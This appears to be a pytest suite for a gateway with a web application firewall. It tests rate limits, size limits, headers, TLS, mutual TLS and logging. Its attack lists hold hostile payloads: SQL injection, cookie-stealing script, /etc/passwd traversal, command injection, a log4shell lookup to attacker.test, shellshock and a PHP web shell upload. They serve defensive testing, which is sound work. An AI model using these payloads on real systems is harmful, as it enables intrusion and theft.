"""The front door's policies and the firewall on the real engines, over both families, as processes."""

from __future__ import annotations

import http.client
import socket
import ssl
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from urllib.parse import quote

import pytest
from edge_bodies import form, upload
from edge_engines import LOOPBACK, Edge, running

from infra.model.exposure import Clients, Exposure, Hsts, RateLimit, Waf, WafException

pytestmark = [pytest.mark.sim, pytest.mark.slow]

MANY = RateLimit(requests=100_000, everybody=100_000)
NAMES = {
    "plain": Exposure(rate=MANY, body="1Mi"),
    "slow": Exposure(
        rate=RateLimit(requests=5, everybody=12, per="hour"), hsts=Hsts(include_subdomains=True)
    ),
    "closed": Exposure(rate=MANY, clients=Clients(authority="agencies", names=("files.agency.test",))),
    "streamed": Exposure(rate=MANY, body=None, waf=Waf(content_types=("application/octet-stream",))),
    "watched": Exposure(rate=MANY, waf=Waf(mode="detect")),
    "files": Exposure(rate=MANY, waf=Waf(content_types=("application/pdf",))),
    "excepted": Exposure(
        rate=MANY,
        waf=Waf(exceptions=(WafException(rule=942100, reason="a database course"),), methods=("GET", "PUT")),
    ),
    "strict": Exposure(rate=MANY, waf=Waf(paranoia=4)),
    "open": Exposure(rate=MANY, waf=Waf(mode="off")),
}
FAMILIES = tuple(LOOPBACK)


@pytest.fixture(scope="module")
def edge(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Edge]:
    with running(tmp_path_factory.mktemp("edge"), NAMES) as found:
        yield found


# --- the firewall -----------------------------------------------------------------------------------

ATTACKS = {
    "SQL injection in the query": ("/?id=" + quote("1' OR '1'='1' UNION SELECT password FROM users--"), {}),  # noqa: S608
    "script in the query": ("/?q=" + quote("<script>alert(document.cookie)</script>"), {}),
    "path traversal": ("/download?file=" + quote("../../../../etc/passwd"), {}),
    "command injection": ("/?host=" + quote("127.0.0.1; cat /etc/passwd"), {}),
    "log4shell in a header": ("/", {"x-api-version": "${jndi:ldap://attacker.test/a}"}),
    "a scanner": ("/", {"user-agent": "sqlmap/1.7 (https://sqlmap.org)"}),
    "PHP injection": ("/?page=" + quote("php://filter/convert.base64-encode/resource=index.php"), {}),
    "shellshock": ("/", {"x-mark": "() { :;}; /bin/bash -c id"}),
}


@pytest.mark.parametrize("family", FAMILIES)
@pytest.mark.parametrize("attack", ATTACKS)
def test_an_obvious_attack_is_refused(edge: Edge, family: str, attack: str) -> None:
    path, headers = ATTACKS[attack]
    assert edge.ask("plain.x.test", path, family=family, headers=headers).status == 403


@pytest.mark.parametrize("family", FAMILIES)
@pytest.mark.parametrize(
    ("body", "headers"),
    [
        form(name="x", comment="1'; DROP TABLE units; --"),
        (b'{"filter": "1 UNION SELECT username, password FROM users"}', {"content-type": "application/json"}),
        upload("page.php", b"<?php system($_GET['c']); ?>"),
        (b"{not json", {"content-type": "application/json"}),
    ],
)
def test_an_attack_in_the_body_is_refused(
    edge: Edge, family: str, body: bytes, headers: dict[str, str]
) -> None:
    answer = edge.ask("plain.x.test", "/form", family=family, method="POST", body=body, headers=headers)
    assert answer.status in (400, 403)


TEXT = (
    "Kính gửi Ủy ban nhân dân xã; tôi đề nghị cấp bản sao Giấy khai sinh (số 12/2026) cho con: "
    "Nguyễn Thị Ánh Tuyết – sinh ngày 01/02/2020. Xin cảm ơn!"
)


@pytest.mark.parametrize("family", FAMILIES)
@pytest.mark.parametrize(
    ("path", "body", "headers"),
    [
        ("/", None, {}),
        ("/tìm-kiếm?q=", None, {}),
        ("/search?q=" + quote("Thủ tục đăng ký kết hôn & trích lục hộ tịch"), None, {}),
        ("/form", *form(noidung=TEXT, hoten="Trần Văn Ơn")),
        ("/api", ('{"noi_dung": "' + TEXT + '"}').encode(), {"content-type": "application/json"}),
        ("/upload", *upload("Đơn đề nghị.pdf", b"%PDF-1.7\n" + bytes(range(256)) * 3000)),
    ],
)
def test_what_people_do_passes(
    edge: Edge, family: str, path: str, body: bytes | None, headers: dict[str, str]
) -> None:
    method = "GET" if body is None else "POST"
    answer = edge.ask(
        "plain.x.test", quote(path, safe="/?&=%"), family=family, method=method, body=body, headers=headers
    )
    assert answer.status == 200, answer.body
    assert answer.told["bytes"] == len(body or b"")


def test_detection_lets_pass_and_writes_a_line(edge: Edge) -> None:
    path, _ = ATTACKS["script in the query"]
    assert edge.ask("watched.x.test", path).status == 200
    lines = (edge.folder / "waf.log").read_text("utf-8").splitlines()
    assert any('"host":"watched.x.test"' in line and '"refused":false' in line for line in lines)


def test_the_firewalls_log_names_rules_and_the_clients_address_and_never_what_was_sent(edge: Edge) -> None:
    path, _ = ATTACKS["SQL injection in the query"]
    edge.ask("plain.x.test", path, family="ipv4")
    log = (edge.folder / "waf.log").read_text("utf-8")
    assert "UNION" not in log
    assert '"client":"127.0.0.1:' in log
    assert "942100" in log
    assert "901340" not in log


def test_a_name_without_the_firewall_is_not_looked_at(edge: Edge) -> None:
    path, _ = ATTACKS["script in the query"]
    assert edge.ask("open.x.test", path).status == 200


def test_exceptions_and_methods_of_a_name(edge: Edge) -> None:
    assert edge.ask("excepted.x.test", method="PUT", body=b"a=b", headers=form()[1]).status == 200
    assert edge.ask("plain.x.test", method="PUT", body=b"a=b", headers=form()[1]).status == 403


def test_more_paranoia_finds_more(edge: Edge) -> None:
    path = "/?q=" + quote("a=b; c=d ... (e) <f>")
    assert edge.ask("plain.x.test", path).status == 200
    assert edge.ask("strict.x.test", path).status == 403


# --- limits -----------------------------------------------------------------------------------------


@pytest.mark.parametrize("family", FAMILIES)
def test_a_body_that_is_too_large_is_refused_and_one_that_is_just_small_enough_passes(
    edge: Edge, family: str
) -> None:
    frame = len(upload("a.pdf", b"")[0])
    for size, status in ((1 << 20, 200), ((1 << 20) + 1, 413)):
        body, headers = upload("a.pdf", b"a" * (size - frame))
        answer = edge.ask("plain.x.test", method="POST", family=family, body=body, headers=headers)
        assert answer.status == status, size


@pytest.mark.parametrize("chunked", [False, True])
def test_more_text_than_the_firewall_reads_is_refused(edge: Edge, chunked: bool) -> None:
    kind = form()[1]
    for size, status in ((32 << 10, 200), ((32 << 10) + 1, 413)):
        text = b"a=" + b"x" * (size - 2)
        body = iter([text[:1000], text[1000:]]) if chunked else text
        answer = edge.ask("plain.x.test", method="POST", body=body, headers=kind)
        assert answer.status == status, (size, answer.body)


def test_more_text_in_the_fields_of_an_upload_is_refused(edge: Edge) -> None:
    head = b'--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n'
    kind = {"content-type": "multipart/form-data; boundary=x"}
    for size, status in ((30 << 10, 200), (33 << 10, 413)):
        body = head + b"y" * size + b"\r\n--x--\r\n"
        assert edge.ask("plain.x.test", method="POST", body=body, headers=kind).status == status


def test_a_type_that_a_name_takes_besides_has_only_the_limit_of_the_body(edge: Edge) -> None:
    body = b"a" * (1 << 20)
    for kind, status in (("application/pdf", 200), ("application/json", 413), ("text/plain", 413)):
        headers = {"content-type": f"{kind}; charset=utf-8"}
        answer = edge.ask("files.x.test", method="POST", body=body, headers=headers)
        assert answer.status == status, kind


def test_many_costly_requests_at_once_are_all_answered(edge: Edge) -> None:
    """The firewall reads one after another; none is given up, and what comes next does not wait for long."""
    text = b"a=" + b"select+1%27+or+" * 2000
    kind = form()[1]

    def ask(_: int) -> int:
        return edge.ask("watched.x.test", method="POST", body=text, headers=kind).status

    with ThreadPoolExecutor(8) as pool:
        assert set(pool.map(ask, range(8))) == {200}


def test_a_streamed_name_takes_large_bodies(edge: Edge) -> None:
    headers = {"content-type": "application/octet-stream"}
    answer = edge.ask("streamed.x.test", method="POST", body=b"a" * (16 << 20), headers=headers)
    assert (answer.status, answer.told["bytes"]) == (200, 16 << 20)
    path, _ = ATTACKS["script in the query"]
    assert edge.ask("streamed.x.test", path).status == 403


def test_each_address_has_its_own_limit_and_all_together_have_one(edge: Edge) -> None:
    def seen(source: str, times: int) -> list[int]:
        return [edge.ask("slow.x.test", family="ipv4", source=source).status for _ in range(times)]

    assert seen("127.0.0.2", 7) == [200] * 5 + [429] * 2
    assert seen("127.0.0.3", 5) == [200] * 5
    # 12 together: 5 + 5 + 2, the refused ones may or may not count
    assert seen("127.0.0.4", 5)[-1] == 429
    six = [edge.ask("slow.x.test", family="ipv6").status for _ in range(7)]
    assert six == [200] * 5 + [429] * 2
    # an attack beyond the limit does not even reach the firewall
    assert edge.ask("slow.x.test", ATTACKS["path traversal"][0]).status == 429


# --- headers, TLS, addresses ------------------------------------------------------------------------


@pytest.mark.parametrize("family", FAMILIES)
def test_security_headers_are_there_also_on_answers_of_the_gateway_and_the_backends_own_win(
    edge: Edge, family: str
) -> None:
    answer = edge.ask("plain.x.test", family=family)
    assert answer.headers["strict-transport-security"] == "max-age=31536000"
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert answer.headers["x-frame-options"] == "DENY"  # said by the backend
    refused = edge.ask("plain.x.test", ATTACKS["path traversal"][0], family=family)
    assert (refused.status, refused.headers["x-frame-options"]) == (403, "SAMEORIGIN")
    assert refused.headers["strict-transport-security"] == "max-age=31536000"
    subdomains = edge.ask("slow.x.test", family=family).headers["strict-transport-security"]
    assert subdomains == "max-age=31536000; includeSubDomains"


@pytest.mark.parametrize("family", FAMILIES)
def test_plain_http_is_redirected_without_hsts(edge: Edge, family: str) -> None:
    connection = http.client.HTTPConnection(LOOPBACK[family], edge.http, timeout=10)
    connection.request("GET", "/a?b=c", headers={"host": "plain.x.test"})
    answer = connection.getresponse()
    assert answer.status == 301
    assert answer.getheader("location", "").startswith("https://plain.x.test")
    assert answer.getheader("strict-transport-security") is None


@pytest.mark.parametrize("family", FAMILIES)
def test_the_backend_learns_the_clients_address_and_no_header_of_the_client_changes_it(
    edge: Edge, family: str
) -> None:
    headers = {"x-forwarded-for": "203.0.113.7", "x-forwarded-client-cert": "By=me"}
    told = edge.ask("plain.x.test", family=family, headers=headers).told["headers"]
    told = {name.lower(): value for name, value in told.items()}
    # of a client on loopback, Envoy tells its own address
    assert told["x-forwarded-for"].rpartition(",")[2].strip() != "203.0.113.7"
    assert told["x-envoy-external-address"] == LOOPBACK[family]
    assert "x-forwarded-client-cert" not in told


@pytest.mark.parametrize("family", FAMILIES)
def test_the_access_log_has_address_port_host_status_and_tls(edge: Edge, family: str) -> None:
    edge.ask("plain.x.test", f"/logged-{family}?secret=1", family=family, headers={"user-agent": "probe"})
    (line,) = edge.logged(path=f"/logged-{family}")
    assert line["client_address"] == LOOPBACK[family]
    assert 0 < int(line["client_port"]) < 65536
    assert (line["host"], int(line["status"]), line["method"]) == ("plain.x.test", 200, "GET")
    assert line["tls_version"] == "TLSv1.3"
    assert line["user_agent"] == "probe"
    assert "plain" in line["route"]
    assert {"bytes_sent", "bytes_received", "duration_ms"} <= line.keys()
    assert "secret" not in str(line)


@pytest.mark.parametrize("family", FAMILIES)
def test_old_tls_and_weak_ciphers_are_refused(edge: Edge, family: str) -> None:
    def shake(context: ssl.SSLContext) -> str | None:
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        with socket.create_connection((LOOPBACK[family], edge.https), timeout=10) as raw:
            return context.wrap_socket(raw, server_hostname="plain.x.test").version()

    old = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    old.set_ciphers("DEFAULT:@SECLEVEL=0")
    old.minimum_version, old.maximum_version = ssl.TLSVersion.TLSv1, ssl.TLSVersion.TLSv1_1
    with pytest.raises(OSError, match=r"SSL|ssl|reset"):
        shake(old)
    weak = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    weak.maximum_version = ssl.TLSVersion.TLSv1_2
    weak.set_ciphers("ECDHE-ECDSA-AES128-SHA:@SECLEVEL=0")
    with pytest.raises(OSError, match=r"SSL|ssl|reset"):
        shake(weak)
    strong = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    strong.maximum_version = ssl.TLSVersion.TLSv1_2
    assert shake(strong) == "TLSv1.2"


# --- mutual TLS -------------------------------------------------------------------------------------


@pytest.mark.parametrize("family", FAMILIES)
@pytest.mark.parametrize("client", ["", "stranger"])
def test_without_a_certificate_of_the_authority_nobody_is_served(
    edge: Edge, family: str, client: str
) -> None:
    with pytest.raises((OSError, http.client.HTTPException)):
        edge.ask("closed.x.test", family=family, client=client)
    lines = edge.logged(host="closed.x.test", client_address=LOOPBACK[family])
    assert any(line.get("tls_failure") for line in lines)


@pytest.mark.parametrize("family", FAMILIES)
def test_with_a_certificate_the_backend_is_told_whose(edge: Edge, family: str) -> None:
    headers = {"x-forwarded-client-cert": "Subject=admin"}
    answer = edge.ask("closed.x.test", family=family, client="clients/agency", headers=headers)
    assert answer.status == 200
    told = {name.lower(): value for name, value in answer.told["headers"].items()}
    assert "files.agency.test" in told["x-forwarded-client-cert"]
    assert "admin" not in told["x-forwarded-client-cert"]


@pytest.mark.parametrize("family", FAMILIES)
def test_another_names_connection_does_not_lead_to_a_closed_name(edge: Edge, family: str) -> None:
    assert edge.ask("closed.x.test", family=family, sni="plain.x.test").status in (404, 421)


# --- what becomes of requests without the firewall (last: it is stopped) ------------------------------


def test_without_the_firewall_requests_are_refused_and_names_without_one_go_on(edge: Edge) -> None:
    edge.processes["waf"].kill()
    edge.processes["waf"].wait()
    assert edge.ask("plain.x.test").status == 503
    assert edge.ask("open.x.test").status == 200
